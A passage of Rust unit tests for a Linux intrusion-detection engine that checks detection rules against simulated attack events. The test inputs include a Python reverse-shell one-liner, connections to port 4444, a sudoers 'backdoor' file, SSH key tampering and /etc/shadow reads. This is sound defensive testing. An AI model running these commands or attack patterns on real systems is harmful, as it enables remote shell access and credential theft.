//! Replay tests: events built in memory, no kernel.
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, SystemTime};

use super::*;
use crate::model::{EventData, Net, Parent, Process, Severity, Transport};
use crate::telemetry::metrics::{
    Bounded, FindingReason, KeyState, ModelLabels, ModelSeverityLabels, ModelStateLabels,
    ReasonLabels, RuleLabels, SuppressReason, SuppressedLabels,
};

fn t(s: u64) -> SystemTime {
    SystemTime::UNIX_EPOCH + Duration::from_secs(1_800_000_000 + s)
}

/// The default configuration with every part reported at once (no correlation window), so each test
/// sees the findings of the event it just processed.
fn config() -> DetectConfig {
    DetectConfig {
        correlation_window: Duration::ZERO,
        ..DetectConfig::default()
    }
}

fn proc(pid: u32, exe: &str, args: &[&str], euid: u32) -> Process {
    Process {
        pid,
        tid: pid,
        ppid: 1,
        start_ns: u64::from(pid) * 10_000_000,
        uid: euid,
        euid,
        exe: exe.into(),
        args: args.iter().map(|s| s.to_string()).collect(),
        comm: exe
            .rsplit('/')
            .next()
            .unwrap_or("")
            .chars()
            .take(15)
            .collect::<String>()
            .into(),
        ..Process::default()
    }
}

fn ev(
    kind: EventKind,
    process: Process,
    parent: Option<(u32, &str)>,
    data: EventData,
) -> Arc<Event> {
    let parent = parent.map(|(pid, exe)| Parent {
        pid,
        start_ns: u64::from(pid) * 10_000_000,
        exe: exe.into(),
        ..Parent::default()
    });
    Arc::new(Event {
        kind,
        ktime_ns: 1,
        time: t(0),
        ancestors: parent.iter().map(|p| p.exe.clone()).collect(),
        parent,
        process,
        data,
        wire_flags: 0,
    })
}

fn exec(pid: u32, exe: &str, args: &[&str], parent: Option<(u32, &str)>) -> Arc<Event> {
    ev(
        EventKind::Exec,
        proc(pid, exe, args, 0),
        parent,
        EventData::Exec {
            filename: exe.into(),
            filename_truncated: false,
        },
    )
}

fn net(
    kind: EventKind,
    pid: u32,
    exe: &str,
    parent: Option<(u32, &str)>,
    local: &str,
    peer: &str,
    result: i64,
) -> Arc<Event> {
    let n = Net {
        transport: Transport::Tcp,
        local: local.parse::<SocketAddr>().unwrap(),
        peer: peer.parse().unwrap(),
        result,
    };
    ev(kind, proc(pid, exe, &[exe], 33), parent, EventData::Net(n))
}

/// An engine with the default policy and baselines in monitor mode over an empty model, unless told.
fn engine(mode: Mode) -> Engine {
    let mut c = config();
    c.baseline.mode = mode;
    Engine::new_at(&c, Metrics::default(), t(0)).unwrap()
}

fn rules_hit(e: &mut Engine, event: &Arc<Event>) -> Vec<String> {
    e.process_at(event, t(1))
        .into_iter()
        .filter_map(|f| match &f.source {
            FindingSource::Rule { id, .. } => Some(id.clone()),
            _ => None,
        })
        .collect()
}

#[test]
fn default_policy_loads() {
    let p = Policy::load(None).unwrap();
    assert!(p.rules.len() >= 8);
}

#[test]
fn shell_spawned_by_named_server() {
    let mut e = engine(Mode::Learn);
    let hit = rules_hit(
        &mut e,
        &exec(
            20,
            "/bin/sh",
            &["sh", "-c", "id"],
            Some((10, "/usr/sbin/nginx")),
        ),
    );
    assert!(
        hit.contains(&"shell_spawned_by_server".to_string()),
        "{hit:?}"
    );
    let miss = rules_hit(
        &mut e,
        &exec(
            21,
            "/bin/sh",
            &["sh", "-c", "id"],
            Some((11, "/usr/sbin/cron")),
        ),
    );
    assert!(
        !miss.contains(&"shell_spawned_by_server".to_string()),
        "{miss:?}"
    );
}

#[test]
fn shell_spawned_by_any_process_that_listens() {
    let mut e = engine(Mode::Learn);
    let server = "/opt/app/bin/myserver";
    assert!(
        rules_hit(
            &mut e,
            &exec(31, "/bin/bash", &["bash"], Some((30, server)))
        )
        .is_empty(),
        "not network-facing yet"
    );
    e.process_at(
        &net(
            EventKind::Listen,
            30,
            server,
            None,
            "0.0.0.0:8000",
            "0.0.0.0:0",
            0,
        ),
        t(1),
    );
    let hit = rules_hit(
        &mut e,
        &exec(32, "/bin/bash", &["bash"], Some((30, server))),
    );
    assert!(
        hit.contains(&"shell_spawned_by_server".to_string()),
        "{hit:?}"
    );
    // Once the server exits, a new process reusing its pid is not network-facing.
    let mut exit = (*net(
        EventKind::Exit,
        30,
        server,
        None,
        "0.0.0.0:0",
        "0.0.0.0:0",
        0,
    ))
    .clone();
    exit.data = EventData::Exit { status: 0 };
    e.process_at(&Arc::new(exit), t(2));
    assert!(!rules_hit(
        &mut e,
        &exec(33, "/bin/bash", &["bash"], Some((30, server)))
    )
    .contains(&"shell_spawned_by_server".to_string()));
}

#[test]
fn exec_from_temp_and_memory() {
    let mut e = engine(Mode::Learn);
    for exe in [
        "/tmp/x",
        "/var/tmp/a/b",
        "/dev/shm/.hidden",
        "/memfd:payload (deleted)",
        "/usr/bin/gone (deleted)",
    ] {
        assert!(
            rules_hit(&mut e, &exec(40, exe, &[exe], None))
                .contains(&"exec_from_temp_or_memory".to_string()),
            "{exe}"
        );
    }
    for exe in ["/usr/bin/tmp", "/opt/tmp/x", "/home/u/tmp/x"] {
        assert!(
            !rules_hit(&mut e, &exec(41, exe, &[exe], None))
                .contains(&"exec_from_temp_or_memory".to_string()),
            "{exe}"
        );
    }
    // runc's sealed copy of itself under a container runtime is not; the same memfd name elsewhere is.
    let runc = |pid, parent: &str| {
        let exe = "/memfd:runc_cloned:/proc/self/exe (deleted)";
        exec(pid, exe, &[exe, "init"], Some((pid - 1, parent)))
    };
    assert!(
        !rules_hit(&mut e, &runc(46, "/usr/bin/containerd-shim-runc-v2"))
            .contains(&"exec_from_temp_or_memory".to_string())
    );
    assert!(rules_hit(&mut e, &runc(48, "/usr/bin/bash"))
        .contains(&"exec_from_temp_or_memory".to_string()));
    // fexecve of a file on disk: the kernel names the real file; the call went through an fd.
    for spelled in ["/dev/fd/3", "/proc/self/fd/7"] {
        // (argv differs, so the second is not a repeat of the first)
        let mut ev = exec(42, "/usr/bin/true", &["true", spelled], None);
        if let EventData::Exec { filename, .. } = &mut Arc::make_mut(&mut ev).data {
            *filename = spelled.into();
        }
        assert!(
            rules_hit(&mut e, &ev).contains(&"exec_from_temp_or_memory".to_string()),
            "{spelled}"
        );
    }
}

/// A socket duplicated onto stdin and stdout by a process that connected out moments before is a
/// reverse shell whatever the process is called; without the connect, or long after it, it is not.
#[test]
fn socket_on_stdio_after_connect_whatever_the_name() {
    let rule = "reverse_shell_socket_on_stdio_after_connect".to_string();
    let dup = |pid: u32, ktime_ns: u64, mask: u64| {
        let mut p = proc(pid, "/var/lib/x/kworker", &["kworker"], 0);
        p.stdio_socket = mask & 0b11 == 0b11;
        let mut e = ev(
            EventKind::StdioSocket,
            p,
            None,
            EventData::Sys(crate::model::Sys {
                syscall: "dup2",
                args: [3, 1, mask, 1],
                name: None,
                name2: None,
                result: 1,
            }),
        );
        Arc::make_mut(&mut e).ktime_ns = ktime_ns;
        e
    };
    let connect = |pid: u32, ktime_ns: u64| {
        let mut e = net(
            EventKind::Connect,
            pid,
            "/var/lib/x/kworker",
            None,
            "127.0.0.1:40000",
            "192.0.2.7:4444",
            0,
        );
        Arc::make_mut(&mut e).ktime_ns = ktime_ns;
        e
    };
    let mut e = engine(Mode::Learn);
    rules_hit(&mut e, &connect(60, 1_000_000_000));
    assert!(
        !rules_hit(&mut e, &dup(60, 1_500_000_000, 0b01)).contains(&rule),
        "stdin only"
    );
    assert!(rules_hit(&mut e, &dup(60, 2_000_000_000, 0b11)).contains(&rule));
    // No connect by this process, or one 10 s earlier: not this rule.
    assert!(!rules_hit(&mut e, &dup(61, 2_000_000_000, 0b11)).contains(&rule));
    rules_hit(&mut e, &connect(62, 1_000_000_000));
    assert!(!rules_hit(&mut e, &dup(62, 11_000_000_000, 0b11)).contains(&rule));
}

#[test]
fn reverse_shell_shapes() {
    let mut e = engine(Mode::Learn);
    // A shell connecting out with its stdin and stdout on the socket: a reverse shell.
    let mut c = net(
        EventKind::Connect,
        50,
        "/usr/bin/bash",
        None,
        "10.0.0.2:40000",
        "203.0.113.9:4444",
        0,
    );
    Arc::make_mut(&mut c).process.stdio_socket = true;
    let hit = rules_hit(&mut e, &c);
    assert!(
        hit.contains(&"reverse_shell_stdio_socket".to_string()),
        "{hit:?}"
    );
    // The same connect with stdio elsewhere (a /dev/tcp probe in a loop) is not called a reverse shell.
    let c = net(
        EventKind::Connect,
        56,
        "/usr/bin/bash",
        None,
        "10.0.0.2:40000",
        "203.0.113.9:4444",
        0,
    );
    let hit = rules_hit(&mut e, &c);
    assert!(
        !hit.iter().any(|r| r.starts_with("reverse_shell")),
        "{hit:?}"
    );
    assert!(
        hit.contains(&"shell_network_connection".to_string()),
        "{hit:?}"
    );
    let c = net(
        EventKind::Connect,
        51,
        "/usr/bin/curl",
        None,
        "10.0.0.2:40000",
        "203.0.113.9:4444",
        0,
    );
    assert!(!rules_hit(&mut e, &c)
        .iter()
        .any(|r| r.starts_with("reverse_shell")));

    // connect, dup2, execve(/bin/sh) by the same process.
    let mut pre = net(
        EventKind::Connect,
        57,
        "/tmp/stager",
        None,
        "10.0.0.2:40002",
        "203.0.113.9:4444",
        0,
    );
    Arc::make_mut(&mut pre).ktime_ns = 5_000_000_000;
    rules_hit(&mut e, &pre);
    let mut sh = exec(57, "/usr/bin/dash", &["sh"], None);
    {
        let s = Arc::make_mut(&mut sh);
        s.ktime_ns = 5_500_000_000;
        s.process.start_ns = pre.process.start_ns;
    }
    assert!(rules_hit(&mut e, &sh).contains(&"reverse_shell_exec_after_connect".to_string()));

    let nc = exec(52, "/bin/sh", &["sh"], Some((5, "/usr/bin/ncat")));
    assert!(rules_hit(&mut e, &nc).contains(&"reverse_shell_netcat_exec".to_string()));
    let ok = exec(53, "/bin/sh", &["sh"], Some((5, "/usr/bin/make")));
    assert!(!rules_hit(&mut e, &ok).contains(&"reverse_shell_netcat_exec".to_string()));

    let py = exec(
        54,
        "/usr/bin/python3",
        &["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"sh\")"],
        None,
    );
    assert!(rules_hit(&mut e, &py).contains(&"reverse_shell_interpreter".to_string()));
    let py = exec(
        55,
        "/usr/bin/python3",
        &["python3", "-m", "http.server"],
        None,
    );
    assert!(!rules_hit(&mut e, &py).contains(&"reverse_shell_interpreter".to_string()));
}

#[test]
fn web_server_outbound_ports() {
    let mut e = engine(Mode::Learn);
    let bad = net(
        EventKind::Connect,
        60,
        "/usr/sbin/nginx",
        None,
        "10.0.0.2:40000",
        "198.51.100.7:6667",
        0,
    );
    assert!(rules_hit(&mut e, &bad).contains(&"web_server_unusual_outbound_port".to_string()));
    for peer in ["198.51.100.7:443", "127.0.0.1:3000", "[::1]:9000"] {
        let ok = net(
            EventKind::Connect,
            61,
            "/usr/sbin/nginx",
            None,
            "10.0.0.2:40000",
            peer,
            0,
        );
        assert!(
            !rules_hit(&mut e, &ok).contains(&"web_server_unusual_outbound_port".to_string()),
            "{peer}"
        );
    }
}

/// A server bound to port 0 gets a port the kernel picks, another at every start: listening ports in
/// the ephemeral range are one key per executable, fixed ports stay one key each.
#[test]
fn listening_ports_the_kernel_picks_are_one_key() {
    let mut c = config();
    c.baseline.learn_for = Duration::from_secs(60);
    let mut e = Engine::new_at(&c, Metrics::default(), t(0)).unwrap();
    let listen = |pid: u32, port: u16| {
        net(
            EventKind::Listen,
            pid,
            "/usr/bin/devserver",
            None,
            &format!("127.0.0.1:{port}"),
            "0.0.0.0:0",
            0,
        )
    };
    let new_keys = |e: &mut Engine, ev: &Arc<Event>, at: u64| -> Vec<String> {
        e.process_at(ev, t(at))
            .into_iter()
            .filter_map(|f| match &f.source {
                FindingSource::Anomaly { model, key } if model == "listen_port" => {
                    Some(key.clone())
                }
                _ => None,
            })
            .collect()
    };
    e.process_at(&listen(80, 41_234), t(1));
    e.tick(t(61));
    // Restarted: another port from the range, nothing new.
    assert!(new_keys(&mut e, &listen(81, 52_001), 62).is_empty());
    // A fixed port below the range is its own key.
    assert_eq!(
        new_keys(&mut e, &listen(82, 8_080), 63),
        vec!["/usr/bin/devserver -> 8080/tcp"]
    );
    assert_eq!(
        new_keys(&mut e, &listen(83, 32_767), 64),
        vec!["/usr/bin/devserver -> 32767/tcp"]
    );
}

#[test]
fn listen_by_interpreter_and_package_managers() {
    let mut e = engine(Mode::Learn);
    let l = net(
        EventKind::Listen,
        70,
        "/usr/bin/python3.11",
        None,
        "0.0.0.0:31337",
        "0.0.0.0:0",
        0,
    );
    assert!(rules_hit(&mut e, &l).contains(&"listen_by_shell_or_interpreter".to_string()));
    let l = net(
        EventKind::Listen,
        71,
        "/usr/sbin/sshd",
        None,
        "0.0.0.0:22",
        "0.0.0.0:0",
        0,
    );
    assert!(!rules_hit(&mut e, &l).contains(&"listen_by_shell_or_interpreter".to_string()));
    let a = exec(72, "/usr/bin/apt-get", &["apt-get", "install", "x"], None);
    assert!(rules_hit(&mut e, &a).contains(&"package_manager_or_compiler".to_string()));
    let a = exec(73, "/usr/bin/aptitude-curses", &["x"], None);
    assert!(!rules_hit(&mut e, &a).contains(&"package_manager_or_compiler".to_string()));
}

#[test]
fn duplicates_are_suppressed_within_the_window() {
    let m = Metrics::default();
    let mut c = config();
    // A high rule: its repeats follow the high window, not the (longer) general one.
    c.suppression_window = Duration::from_secs(24 * 3600);
    c.high_suppression_window = Duration::from_secs(600);
    let mut e = Engine::new_at(&c, m.clone(), t(0)).unwrap();
    let x = exec(80, "/tmp/x", &["/tmp/x"], None);
    assert_eq!(e.process_at(&x, t(1)).len(), 1);
    assert_eq!(e.process_at(&x, t(2)).len(), 0, "duplicate in window");
    let rule = RuleLabels {
        rule: Bounded::from_closed_set("exec_from_temp_or_memory"),
        severity: Severity::high,
    };
    assert_eq!(m.rule_matches.get_or_create(&rule).get(), 1);
    assert_eq!(
        m.finding_occurrences
            .get_or_create(&ReasonLabels {
                reason: FindingReason::rule
            })
            .get(),
        2
    );
    assert_eq!(
        m.findings_suppressed
            .get_or_create(&SuppressedLabels {
                reason: SuppressReason::duplicate
            })
            .get(),
        1
    );
    assert_eq!(
        e.process_at(&x, t(1 + 601)).len(),
        1,
        "reported again after the window"
    );
}

#[test]
fn rule_counters_are_pre_initialised() {
    let m = Metrics::default();
    let _e = Engine::new_at(&config(), m.clone(), t(0)).unwrap();
    let mut out = String::new();
    let mut reg = prometheus_client::registry::Registry::default();
    reg.register("rm", "x", m.rule_matches.clone());
    prometheus_client::encoding::text::encode(&mut out, &reg).unwrap();
    assert!(
        out.contains("rule=\"shell_spawned_by_server\",severity=\"high\"} 0"),
        "{out}"
    );
}

#[test]
fn baseline_models_learn_then_flag_new_keys_once() {
    let mut c = config();
    c.baseline.learn_for = Duration::from_secs(60);
    let m = Metrics::default();
    let mut e = Engine::new_at(&c, m.clone(), t(0)).unwrap();
    let workload = vec![
        exec(90, "/usr/bin/curl", &["curl"], Some((9, "/usr/bin/bash"))),
        net(
            EventKind::Connect,
            90,
            "/usr/bin/curl",
            Some((9, "/usr/bin/bash")),
            "10.0.0.2:40000",
            "203.0.113.1:443",
            0,
        ),
        net(
            EventKind::Listen,
            91,
            "/usr/sbin/sshd",
            None,
            "0.0.0.0:22",
            "0.0.0.0:0",
            0,
        ),
    ];
    for w in &workload {
        assert!(e
            .process_at(w, t(1))
            .iter()
            .all(|f| matches!(f.source, FindingSource::Rule { .. })));
    }
    e.tick(t(61));
    for w in &workload {
        assert!(
            e.process_at(w, t(62)).is_empty(),
            "the learned workload is silent"
        );
    }
    // New: a never-seen executable connects; the same shell spawns a new child; sshd listens on a new port.
    let new = vec![
        (
            net(
                EventKind::Connect,
                92,
                "/opt/new/agent",
                None,
                "10.0.0.2:40001",
                "203.0.113.1:443",
                0,
            ),
            vec!["network_process", "outbound_port"],
        ),
        (
            exec(93, "/usr/bin/wget", &["wget"], Some((9, "/usr/bin/bash"))),
            vec!["process_lineage", "process_user"],
        ),
        (
            net(
                EventKind::Listen,
                91,
                "/usr/sbin/sshd",
                None,
                "0.0.0.0:2222",
                "0.0.0.0:0",
                0,
            ),
            vec!["listen_port"],
        ),
    ];
    for (ev, models) in &new {
        let got: Vec<String> = e
            .process_at(ev, t(63))
            .into_iter()
            .filter_map(|f| match &f.source {
                FindingSource::Anomaly { model, .. } => Some(model.clone()),
                _ => None,
            })
            .collect();
        assert_eq!(&got, models);
        assert!(
            e.process_at(ev, t(64))
                .iter()
                .all(|f| !matches!(f.source, FindingSource::Anomaly { .. })),
            "once per key"
        );
    }
    let anomalies = m
        .anomalies
        .get_or_create(&ModelSeverityLabels {
            model: Model::ListenPort,
            severity: Severity::medium,
        })
        .get();
    assert_eq!(anomalies, 1);
    let seen = m
        .baseline_keys
        .get_or_create(&ModelStateLabels {
            model: Model::ListenPort,
            state: KeyState::seen_in_monitor,
        })
        .get();
    assert_eq!(seen, 1);
    assert_eq!(
        m.baseline_learning
            .get_or_create(&ModelLabels {
                model: Model::ListenPort
            })
            .get(),
        0
    );
}

#[test]
fn threat_level_follows_findings() {
    let m = Metrics::default();
    let mut e = Engine::new_at(&config(), m.clone(), t(0)).unwrap();
    e.tick(t(1));
    assert_eq!(m.threat_level.get(), 0.0);
    e.process_at(
        &exec(100, "/tmp/x", &["/tmp/x"], Some((10, "/usr/sbin/nginx"))),
        t(2),
    );
    e.tick(t(2));
    assert!(m.threat_level.get() >= 20.0, "{}", m.threat_level.get());
}

#[test]
fn policy_errors_name_file_line_and_allowed_values() {
    let bad_kind = "rules:\n  - id: r1\n    description: d\n    severity: high\n    tactic: execution\n    match:\n      kind: [exce]\n";
    let err = Policy::parse(bad_kind, "p.yml").unwrap_err().to_string();
    assert!(
        err.starts_with(
            "p.yml:2: rule \"r1\": match.kind: \"exce\" is not an event kind; allowed: exec"
        ),
        "{err}"
    );

    let bad_sev = "rules:\n  - id: r1\n    description: d\n    severity: urgent\n    tactic: execution\n    match: {kind: [exec]}\n";
    let err = Policy::parse(bad_sev, "p.yml").unwrap_err().to_string();
    assert!(err.starts_with("p.yml:4:15: "), "{err}");
    assert!(
        err.contains(
            "unknown variant `urgent`, expected one of `info`, `low`, `medium`, `high`, `critical`"
        ),
        "{err}"
    );

    let bad_key = "rules:\n  - id: r1\n    description: d\n    severity: low\n    tactic: execution\n    match:\n      exe: [x]\n";
    let err = Policy::parse(bad_key, "p.yml").unwrap_err().to_string();
    assert!(
        err.contains("unknown field `exe`, expected one of `kind`, `exe_path`"),
        "{err}"
    );

    for (field, value, want) in [
        ("args_regex", "'('", "invalid regex"),
        ("peer_cidr", "[10.0.0.0/33]", "is not a CIDR"),
        ("exe_path", "['[']", "not a valid glob"),
    ] {
        let text = format!("rules:\n  - id: r9\n    description: d\n    severity: low\n    tactic: execution\n    match:\n      {field}: {value}\n");
        let err = Policy::parse(&text, "p.yml").unwrap_err().to_string();
        assert!(
            err.contains(want) && err.contains(&format!("match.{field}")),
            "{err}"
        );
    }

    let dup = "rules:\n  - {id: a, description: d, severity: low, tactic: execution, match: {kind: [exec]}}\n  - {id: a, description: d, severity: low, tactic: execution, match: {kind: [exec]}}\n";
    assert!(Policy::parse(dup, "p.yml")
        .unwrap_err()
        .to_string()
        .contains("duplicate rule id"));
    let bad_t = "rules:\n  - {id: a, description: d, severity: low, tactic: execution, techniques: [X12], match: {kind: [exec]}}\n";
    assert!(Policy::parse(bad_t, "p.yml")
        .unwrap_err()
        .to_string()
        .contains("MITRE ATT&CK technique id"));
}

#[test]
fn except_blocks_veto_a_match() {
    let text = "rules:\n  - id: curl_out\n    description: d\n    severity: low\n    tactic: execution\n    match:\n      kind: [connect]\n      exe_name: [curl]\n    except:\n      - peer_port: [443]\n";
    let p = Policy::parse(text, "p.yml").unwrap();
    let ctx = Context::default();
    let yes = net(
        EventKind::Connect,
        1,
        "/usr/bin/curl",
        None,
        "10.0.0.1:40000",
        "1.2.3.4:80",
        0,
    );
    let no = net(
        EventKind::Connect,
        1,
        "/usr/bin/curl",
        None,
        "10.0.0.1:40000",
        "1.2.3.4:443",
        0,
    );
    assert!(p.rules[0].matches(&yes, &ctx));
    assert!(!p.rules[0].matches(&no, &ctx));
}

fn file_ev(
    kind: EventKind,
    pid: u32,
    exe: &str,
    euid: u32,
    path: &str,
    new_path: Option<&str>,
    parent: Option<(u32, &str)>,
) -> Arc<Event> {
    let f = crate::model::File {
        path: path.into(),
        new_path: new_path.map(String::from),
        flags: 0o1101,
        mode: 0o644,
        owner_uid: None,
        owner_gid: None,
        dirfd: -100,
        resolved: true,
        result: 0,
        detail: Default::default(),
    };
    ev(
        kind,
        proc(pid, exe, &[exe], euid),
        parent,
        EventData::File(f),
    )
}

#[test]
fn file_integrity_rules() {
    use EventKind::*;
    // (kind, exe, path, new path, parent exe, rule, fires)
    type Case = (
        EventKind,
        &'static str,
        &'static str,
        Option<&'static str>,
        Option<&'static str>,
        &'static str,
        bool,
    );
    let cases: &[Case] = &[
        (
            FileWrite,
            "/usr/bin/bash",
            "/root/.ssh/authorized_keys",
            None,
            None,
            "ssh_authorized_keys_changed",
            true,
        ),
        (
            FileRename,
            "/usr/bin/mv",
            "/home/bob/.ssh/x",
            Some("/home/bob/.ssh/authorized_keys2"),
            None,
            "ssh_authorized_keys_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/vim",
            "/home/bob/.ssh/known_hosts",
            None,
            None,
            "ssh_authorized_keys_changed",
            false,
        ),
        (
            FileWrite,
            "/usr/bin/python3",
            "/etc/passwd",
            None,
            None,
            "account_or_sudo_files_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/tee",
            "/etc/sudoers.d/backdoor",
            None,
            None,
            "account_or_sudo_files_changed",
            true,
        ),
        (
            FileRename,
            "/usr/sbin/useradd",
            "/etc/passwd+",
            Some("/etc/passwd"),
            None,
            "account_or_sudo_files_changed",
            false,
        ),
        (
            FileWrite,
            "/usr/bin/bash",
            "/etc/cron.d/job",
            None,
            None,
            "scheduled_task_or_service_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/cp",
            "/etc/systemd/system/evil.service",
            None,
            None,
            "scheduled_task_or_service_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/curl",
            "/usr/local/bin/kubectl",
            None,
            None,
            "system_binary_changed_outside_package_manager",
            true,
        ),
        (
            FileRename,
            "/usr/bin/dpkg",
            "/usr/bin/ls.dpkg-new",
            Some("/usr/bin/ls"),
            None,
            "system_binary_changed_outside_package_manager",
            false,
        ),
        (
            FileWrite,
            "/usr/bin/sh",
            "/usr/sbin/x",
            None,
            Some("/usr/bin/dpkg"),
            "system_binary_changed_outside_package_manager",
            false,
        ),
        (
            FileWrite,
            "/usr/bin/cp",
            "/lib/modules/6.1/extra/rk.ko",
            None,
            None,
            "boot_or_kernel_module_files_changed",
            true,
        ),
        (
            FileWrite,
            "/usr/bin/vim",
            "/etc/hosts",
            None,
            None,
            "",
            false,
        ),
    ];
    for (n, (kind, exe, path, new_path, parent, rule, fires)) in cases.iter().enumerate() {
        let mut e = engine(Mode::Learn);
        let ev = file_ev(
            *kind,
            100 + n as u32,
            exe,
            0,
            path,
            *new_path,
            parent.map(|p| (10, p)),
        );
        let hit = rules_hit(&mut e, &ev);
        if rule.is_empty() {
            assert!(hit.is_empty(), "case {n}: {hit:?}");
        } else {
            assert_eq!(
                hit.contains(&rule.to_string()),
                *fires,
                "case {n}: {exe} {path} -> {hit:?}"
            );
        }
    }
}

#[test]
fn path_ownership_rule_in_the_policy_language() {
    let text = "rules:\n  - id: app_dir_foreign_writer\n    description: d\n    severity: high\n    tactic: persistence\n    match:\n      kind: [file_write, file_rename, file_unlink]\n      file_path: [\"/srv/app/**\"]\n    except:\n      - euid: [998]\n      - exe_path: [/opt/chef/bin/chef-client]\n";
    let p = Policy::parse(text, "p.yml").unwrap();
    let ctx = Context::default();
    assert!(!p.rules[0].matches(
        &file_ev(
            EventKind::FileWrite,
            1,
            "/usr/bin/cp",
            998,
            "/srv/app/index.php",
            None,
            None
        ),
        &ctx
    ));
    assert!(!p.rules[0].matches(
        &file_ev(
            EventKind::FileWrite,
            1,
            "/opt/chef/bin/chef-client",
            0,
            "/srv/app/x",
            None,
            None
        ),
        &ctx
    ));
    assert!(p.rules[0].matches(
        &file_ev(
            EventKind::FileWrite,
            1,
            "/usr/bin/vim",
            1000,
            "/srv/app/index.php",
            None,
            None
        ),
        &ctx
    ));
    assert!(!p.rules[0].matches(
        &file_ev(
            EventKind::FileWrite,
            1,
            "/usr/bin/vim",
            1000,
            "/srv/application/x",
            None,
            None
        ),
        &ctx
    ));
}

#[test]
fn file_writer_model_keys() {
    let ev = file_ev(
        EventKind::FileWrite,
        1,
        "/usr/bin/python3.11",
        0,
        "/srv/app/cache/x",
        None,
        None,
    );
    assert_eq!(
        Model::FileWriter.key(&ev).unwrap(),
        "/srv/app/cache -> /usr/bin/python* (root)"
    );
    let ev = file_ev(
        EventKind::FileRename,
        1,
        "/usr/bin/mv",
        0,
        "/tmp/a",
        Some("/etc/x"),
        None,
    );
    assert_eq!(
        Model::FileWriter.key(&ev).unwrap(),
        "/etc -> /usr/bin/mv (root)"
    );
}

#[test]
fn privilege_rules() {
    let mut e = engine(Mode::Learn);
    let mut p = proc(200, "/tmp/.x/rootme", &["rootme"], 0);
    p.uid = 1000; // real uid 1000, effective 0: a setuid-root binary
    let event = ev(
        EventKind::Exec,
        p,
        None,
        EventData::Exec {
            filename: "/tmp/.x/rootme".into(),
            filename_truncated: false,
        },
    );
    let hit = rules_hit(&mut e, &event);
    assert!(
        hit.contains(&"root_gained_by_unusual_setuid_binary".to_string()),
        "{hit:?}"
    );
    let attrs = crate::families::attributes(&event);
    assert_eq!(
        attrs
            .iter()
            .find(|(k, _)| *k == "tripline.exec.setid")
            .map(|(_, v)| v),
        Some(&crate::model::record::Value::Bool(true))
    );

    let mut p = proc(201, "/usr/bin/sudo", &["sudo", "id"], 0);
    p.uid = 1000;
    let event = ev(
        EventKind::Exec,
        p,
        None,
        EventData::Exec {
            filename: "/usr/bin/sudo".into(),
            filename_truncated: false,
        },
    );
    let hit = rules_hit(&mut e, &event);
    assert!(
        hit.contains(&"privilege_tool_run".to_string())
            && !hit.contains(&"root_gained_by_unusual_setuid_binary".to_string()),
        "{hit:?}"
    );

    let root = exec(202, "/usr/bin/id", &["id"], None); // real root: not a gain
    assert!(!rules_hit(&mut e, &root).contains(&"root_gained_by_unusual_setuid_binary".to_string()));
}

#[test]
fn every_registered_model_is_live_selectable_and_reported() {
    let mut registry = prometheus_client::registry::Registry::default();
    let m = Metrics::new(&mut registry);
    let e = Engine::new_at(&config(), m, t(0)).unwrap();
    let enabled = e.shared().baselines.lock().unwrap().enabled.clone();
    let text = crate::telemetry::exposition::encode(&registry, false).unwrap();
    for model in Model::ALL {
        assert!(enabled.contains(model), "{model:?} is not on by default");
        let mut c = config();
        c.baseline.models = vec![model.as_str().to_string()];
        assert_eq!(c.validate(), Ok(()), "{model:?} is not selectable");
        let series = format!(
            "tripline_baseline_keys{{model=\"{}\",state=\"learned\"}}",
            model.as_str()
        );
        assert!(text.contains(&series), "{series} missing");
    }
}

/// A file event with kernel detail (setid mode, xattr name, sensitive class, operation).
fn detailed_ev(
    kind: EventKind,
    exe: &str,
    path: &str,
    detail: crate::families::file::FileDetail,
) -> Arc<Event> {
    let f = crate::model::File {
        path: path.into(),
        new_path: None,
        flags: 0,
        mode: 0o4755,
        owner_uid: None,
        owner_gid: None,
        dirfd: -100,
        resolved: true,
        result: 0,
        detail,
    };
    ev(kind, proc(7, exe, &[exe], 0), None, EventData::File(f))
}

#[test]
fn setid_capability_sensitive_and_io_uring_rules() {
    use crate::families::file::FileDetail;
    use tripline_common::SensitiveClass;
    let hit = |kind, exe: &str, path: &str, d: FileDetail| {
        let mut e = engine(Mode::Learn);
        rules_hit(&mut e, &detailed_ev(kind, exe, path, d))
    };
    let setid = FileDetail {
        operation: "fchmodat",
        setid_mode: true,
        ..Default::default()
    };
    assert!(hit(
        EventKind::FileChmod,
        "/usr/bin/chmod",
        "/tmp/x",
        setid.clone()
    )
    .contains(&"setid_bit_set".to_string()));
    assert!(
        !hit(EventKind::FileChmod, "/usr/bin/dpkg", "/usr/bin/su", setid)
            .contains(&"setid_bit_set".to_string())
    );
    let cap = |name: &str| FileDetail {
        operation: "setxattr",
        xattr_name: Some(name.into()),
        capability: name == "security.capability",
        ..Default::default()
    };
    assert!(hit(
        EventKind::FileXattr,
        "/usr/sbin/setcap",
        "/tmp/x",
        cap("security.capability")
    )
    .contains(&"file_capability_set".to_string()));
    assert!(!hit(
        EventKind::FileXattr,
        "/usr/bin/setfattr",
        "/etc/x",
        cap("user.note")
    )
    .contains(&"file_capability_set".to_string()));
    let read = |class| FileDetail {
        operation: "openat",
        kernel_resolved: true,
        sensitive: Some(class),
        ..Default::default()
    };
    let cred = "credential_store_read_by_interpreter".to_string();
    assert!(hit(
        EventKind::SensitiveRead,
        "/usr/bin/python3",
        "/etc/shadow",
        read(SensitiveClass::AccountShadow)
    )
    .contains(&cred));
    assert!(!hit(
        EventKind::SensitiveRead,
        "/usr/sbin/sshd",
        "/etc/ssh/ssh_host_ed25519_key",
        read(SensitiveClass::SshHostKey)
    )
    .contains(&cred));
    // Any name, from outside the system directories; the same read by sshd is not this rule's.
    let dropped = "credential_store_read_by_program_outside_system_directories".to_string();
    for (exe, path, class, want) in [
        (
            "/var/tmp/logrotate-helper",
            "/etc/shadow",
            SensitiveClass::AccountShadow,
            true,
        ),
        (
            "/root/cat",
            "/etc/shadow",
            SensitiveClass::AccountShadow,
            true,
        ),
        (
            "/dev/shm/x",
            "/etc/shadow",
            SensitiveClass::AccountShadow,
            true,
        ),
        (
            "/usr/sbin/sshd",
            "/etc/shadow",
            SensitiveClass::AccountShadow,
            false,
        ),
        // A user's own cloud CLI reading the user's credentials is not this rule's.
        (
            "/home/u/.local/bin/aws",
